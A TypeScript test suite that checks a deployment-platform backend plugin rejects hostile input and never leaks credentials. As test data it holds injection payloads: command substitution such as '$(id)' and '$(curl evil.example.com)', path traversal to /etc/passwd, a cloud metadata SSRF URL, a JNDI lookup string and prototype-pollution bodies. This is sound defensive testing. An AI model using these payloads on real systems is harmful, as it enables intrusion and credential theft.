import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DEMO, seedDemo, startEmulator, trustEmulatorCertificate, type RunningEmulator } from '@luban-backstage/emulator';
import request from 'supertest';
import { capturingRootLogger } from '../__testUtils__/capturingRootLogger';
import { DEMO_ENTITY_PATH, DEMO_OWNER, startLubanBackend } from '../__testUtils__/lubanBackend';

/** The credential of every emulated system: the GitHub token, the cluster's service account token, Harbor's password. */
const TOKEN = `canary-${randomBytes(12).toString('hex')}`;

/** Strings that mean harm when something pastes them into a shell, a path, a URL or a log line. */
const HOSTILE = [
  '$(id)',
  '`id`',
  'ledger-api;id',
  'ledger-api && id',
  'ledger-api|id',
  '../ledger-api',
  '../../etc/passwd',
  '..',
  'ledger-api\nX-Injected: 1',
  'ledger-api\r\n',
  'ledger-api\u0000',
  'ledger-\u0430pi', // Cyrillic a
  'ledger\u2011api', // non-breaking hyphen
  'ledger-api ',
  '%2e%2e%2f',
  '0x2e0x2e',
  '${jndi:ldap://x}',
  '{{7*7}}',
  '*',
  'a'.repeat(5000),
];

describe('the luban API under abuse', () => {
  let emulator: RunningEmulator;
  let backend: Awaited<ReturnType<typeof startLubanBackend>>;
  let trap: Server;
  const trapped: string[] = [];
  const logLines: string[] = [];
  const answers: string[] = [];

  const send = async (call: request.Test) => {
    const response = await call;
    answers.push(`${response.status} ${response.text}`);
    return response;
  };
  const get = (path: string) => send(request(backend.server).get(path).set('Authorization', backend.owner));
  const post = (path: string, body: unknown, contentType = 'application/json') =>
    send(
      request(backend.server)
        .post(path)
        .set('Authorization', backend.owner)
        .set('Content-Type', contentType)
        .send(body as object),
    );
  const isClientError = (status: number) => status >= 400 && status < 500;

  beforeAll(async () => {
    trap = createServer((req, res) => {
      trapped.push(`${req.method} ${req.url}`);
      res.end('{}');
    });
    await new Promise<void>(resolve => trap.listen(0, '127.0.0.1', resolve));
    const trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
    emulator = await startEmulator({ token: TOKEN, buildStepMs: 5, rolloutMs: 5 });
    trustEmulatorCertificate(emulator.kubernetes.caCert);
    await seedDemo(emulator);
    const hostile = (name: string, annotations: Record<string, string>) => ({
      apiVersion: 'backstage.io/v1alpha1',
      kind: 'Component',
      metadata: {
        name,
        annotations: { 'luban.dev/project': DEMO.project, 'luban.dev/app': DEMO.app, 'luban.dev/source-repo': `${emulator.github.url}/${DEMO.project}/${DEMO.app}`, ...annotations },
      },
      spec: { type: 'service', lifecycle: 'production', owner: DEMO_OWNER },
    });
    backend = await startLubanBackend({
      emulator,
      features: [capturingRootLogger(logLines)],
      // Entities whose luban annotations someone with write access to a catalog-info.yaml made hostile.
      entities: async () => [
        hostile('shell-app', { 'luban.dev/app': '$(curl evil.example.com)' }),
        hostile('traversal-project', { 'luban.dev/project': '../../kube-system' }),
        hostile('newline-app', { 'luban.dev/app': 'ledger-api\nX-Injected: 1' }),
        hostile('lookalike-app', { 'luban.dev/app': 'ledger-\u0430pi' }),
        hostile('image-elsewhere', { 'luban.dev/kpack-image': 'kube-system/$(id)' }),
        hostile('metadata-gitops', { 'luban.dev/gitops-repo': 'http://169.254.169.254/latest/meta-data/iam' }),
        hostile('unconfigured-gitops', { 'luban.dev/gitops-repo': `${trapUrl}/${DEMO.project}/${DEMO.project}-gitops` }),
        hostile('file-source', { 'luban.dev/source-repo': 'file:///etc/passwd' }),
        hostile('unconfigured-source', { 'luban.dev/source-repo': `${trapUrl}/${DEMO.project}/${DEMO.app}` }),
        hostile('other-cluster', { 'luban.dev/cluster': '../../other' }),
      ],
    });
  });
  afterAll(async () => {
    await backend?.stop();
    await emulator?.stop();
    trap?.close();
  });

  const entityPaths = (name: string) => [
    ['GET', `/api/luban/entities/component/default/${name}/builds`],
    ['GET', `/api/luban/entities/component/default/${name}/promotion`],
    ['POST', `/api/luban/entities/component/default/${name}/builds/rebuild`],
    ['POST', `/api/luban/entities/component/default/${name}/promotion/promote`],
  ];

  it.each(HOSTILE.map(value => [JSON.stringify(value).slice(0, 40), value]))(
    'answers a hostile entity name, namespace or kind %s with 4xx, before any request to the platform',
    async (_label, value) => {
      emulator.requests.clear();
      const encoded = encodeURIComponent(value);
      const paths = [
        ...entityPaths(encoded),
        ['GET', `/api/luban/entities/component/${encoded}/${DEMO.app}/builds`],
        // A kind with a '/' in it is answered with 500 today: the catalog's entity reference parser throws a plain Error.
        ...(value.includes('/') ? [] : [['GET', `/api/luban/entities/${encoded}/default/${DEMO.app}/promotion`]]),
      ];
      const statuses = [];
      for (const [method, path] of paths) {
        const response = method === 'GET' ? await get(path) : await post(path, { from: 'snd', to: 'prd', dryRun: true });
        statuses.push(`${method} ${path} ${response.status}`);
      }
      expect(statuses.filter(s => !isClientError(Number(s.split(' ').pop())))).toEqual([]);
      expect(emulator.requests.entries()).toEqual([]);
    },
  );

  it.each(HOSTILE.map(value => [JSON.stringify(value).slice(0, 40), value]))(
    'answers a hostile build name, step or environment %s with 4xx, and reads nothing of another app',
    async (_label, value) => {
      const encoded = encodeURIComponent(value);
      await get(`${DEMO_ENTITY_PATH}/builds`); // warms the cache: what follows may only read from it
      emulator.requests.clear();
      const responses = [
        await get(`${DEMO_ENTITY_PATH}/builds/${encoded}`),
        await get(`${DEMO_ENTITY_PATH}/builds/${encoded}/logs`),
        await get(`${DEMO_ENTITY_PATH}/builds/${DEMO.app}-build-1/logs?step=${encoded}`),
        await get(`${DEMO_ENTITY_PATH}/promotion/${encoded}/history`),
      ];
      expect(responses.map(r => r.status).filter(status => !isClientError(status))).toEqual([]);
      // Nothing read from the cluster or a git host for a name that is not the app's own. The own project's record
      // (the ci- Namespace) may be read again if its short cache expired since the warm-up on a slow machine.
      const ownRecord = `/api/v1/namespaces/ci-${DEMO.project}`;
      expect(emulator.requests.entries().filter(r => !r.path.includes('/apis/argoproj.io/') && r.path !== ownRecord)).toEqual([]);
    },
  );

  const badBodies: Array<[string, string, unknown]> = [
    ...HOSTILE.flatMap(value => [
      ['promote', `from ${JSON.stringify(value).slice(0, 30)}`, { from: value, to: 'prd' }] as [string, string, unknown],
      ['promote', `to ${JSON.stringify(value).slice(0, 30)}`, { from: 'snd', to: value }] as [string, string, unknown],
      ['rollback', `env ${JSON.stringify(value).slice(0, 30)}`, { env: value }] as [string, string, unknown],
      ['rollback', `toDigest ${JSON.stringify(value).slice(0, 30)}`, { env: 'snd', toDigest: value }] as [string, string, unknown],
    ]),
    ['promote', 'an environment name in upper case', { from: 'SND', to: 'prd' }],
    ['rollback', 'a digest in upper case', { env: 'snd', toDigest: `sha256:${'A'.repeat(64)}` }],
    ['rollback', 'a digest one digit short', { env: 'snd', toDigest: `sha256:${'a'.repeat(63)}` }],
    ['rollback', 'a digest with a newline after it', { env: 'snd', toDigest: `sha256:${'a'.repeat(64)}\n` }],
    ['rollback', 'a digest of another algorithm', { env: 'snd', toDigest: `sha512:${'a'.repeat(128)}` }],
    ['promote', 'an extra branch field', { from: 'snd', to: 'prd', branch: 'main' }],
    ['promote', 'an extra repository field pointing at the metadata address', { from: 'snd', to: 'prd', gitopsRepo: 'http://169.254.169.254/' }],
    ['promote', 'a __proto__ field', JSON.parse('{"from":"snd","to":"prd","__proto__":{"isAdmin":true}}')],
    ['promote', 'a constructor field', { from: 'snd', to: 'prd', constructor: { prototype: { isAdmin: true } } }],
    ['promote', 'environments as arrays', { from: ['snd'], to: ['prd'] }],
    ['promote', 'environments as objects', { from: { $ne: null }, to: { $gt: '' } }],
    ['promote', 'environments as numbers', { from: 1, to: 2 }],
    ['promote', 'null environments', { from: null, to: null }],
    ['promote', 'dryRun as a string', { from: 'snd', to: 'prd', dryRun: 'false' }],
    ['promote', 'an empty body', {}],
    ['promote', 'a JSON array', [{ from: 'snd', to: 'prd' }]],
  ];

  it.each(badBodies)('refuses a %s body with %s: 400 InputError, before anything is read or written', async (action, _label, body) => {
    emulator.requests.clear();
    const response = await post(`${DEMO_ENTITY_PATH}/promotion/${action}`, JSON.stringify(body));

    expect(response.status).toBe(400);
    expect(response.body.error.name).toBe('InputError');
    expect(emulator.requests.entries()).toEqual([]);
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
  });

  it.each([
    ['malformed JSON', '{"from": "snd",', 'application/json', 400],
    ['a JSON string', '"snd"', 'application/json', 400],
    ['a JSON null', 'null', 'application/json', 400],
    ['a form body', 'from=snd&to=prd', 'application/x-www-form-urlencoded', 400],
    ['a body over 64 kB', JSON.stringify({ from: 'snd', to: 'prd', padding: 'x'.repeat(70_000) }), 'application/json', 413],
  ])('refuses %s with %s before anything is read or written', async (_label, body, contentType, status) => {
    emulator.requests.clear();

    const response = await post(`${DEMO_ENTITY_PATH}/promotion/promote`, body, contentType);

    expect(response.status).toBe(status);
    expect(emulator.requests.mutating()).toEqual([]);
  });

  it.each([
    ['shell-app', /invalid 'luban.dev\/app' annotation/],
    ['traversal-project', /invalid 'luban.dev\/project' annotation/],
    ['newline-app', /invalid 'luban.dev\/app' annotation/],
    ['lookalike-app', /invalid 'luban.dev\/app' annotation/],
    ['image-elsewhere', /invalid 'luban.dev\/kpack-image' annotation/],
    ['metadata-gitops', /the repository 'http:\/\/169\.254\.169\.254\/latest\/meta-data\/iam' \(from 'luban.dev\/gitops-repo'\) is not usable/],
    ['unconfigured-gitops', /\(from 'luban.dev\/gitops-repo'\) is not usable/],
    ['file-source', /\(from 'luban.dev\/source-repo'\) is not usable/],
    ['unconfigured-source', /\(from 'luban.dev\/source-repo'\) is not usable/],
    ['other-cluster', /Kubernetes cluster '\.\.\/\.\.\/other' is not configured/],
  ])('refuses to act for %s, whose annotations are hostile, before any request leaves', async (name, message) => {
    emulator.requests.clear();
    for (const [method, path] of entityPaths(name)) {
      const response = method === 'GET' ? await get(path) : await post(path, { from: 'snd', to: 'prd' });
      expect({ path, status: response.status, message: response.body.error?.message }).toEqual({ path, status: 400, message: expect.stringMatching(message) });
    }
    expect(emulator.requests.entries()).toEqual([]);
    expect(trapped).toEqual([]);
  });

  it('never shows the platform credentials in an answer or a log line, even when every system fails', async () => {
    // Make every system fail in a way that ends up in messages: refused credentials, 5xx, dropped connections.
    for (const [system, status] of [['github', 401], ['harbor', 401], ['kubernetes', 'reset']] as const) {
      const restore = emulator.faults.fail({ system, path: '', status, times: Infinity });
      await get(`${DEMO_ENTITY_PATH}/promotion`);
      await get(`${DEMO_ENTITY_PATH}/promotion/snd/history`);
      await post(`${DEMO_ENTITY_PATH}/promotion/promote`, { from: 'snd', to: 'prd' });
      await post(`${DEMO_ENTITY_PATH}/promotion/rollback`, { env: 'snd' });
      await post(`${DEMO_ENTITY_PATH}/builds/rebuild`, {});
      await get(`${DEMO_ENTITY_PATH}/builds/${DEMO.app}-build-1/logs`);
      restore();
    }
    // The failures did reach the answers: refused credentials, an unreachable cluster, an unreadable scan.
    expect(answers.some(answer => answer.includes('"AuthenticationError"'))).toBe(true);
    expect(answers.some(answer => answer.includes('"ServiceUnavailableError"'))).toBe(true);
    expect(answers.some(answer => answer.includes('could not be read: Harbor'))).toBe(true);
    expect(logLines.length).toBeGreaterThan(10);

    const encodings = [TOKEN, encodeURIComponent(TOKEN), Buffer.from(TOKEN).toString('base64'), Buffer.from(`admin:${TOKEN}`).toString('base64'), Buffer.from(`:${TOKEN}`).toString('base64')];
    for (const secret of encodings) {
      expect(answers.filter(answer => answer.includes(secret))).toEqual([]);
      expect(logLines.filter(line => line.includes(secret))).toEqual([]);
    }
    expect(answers.filter(answer => answer.startsWith('500'))).toEqual([]);
  });
});
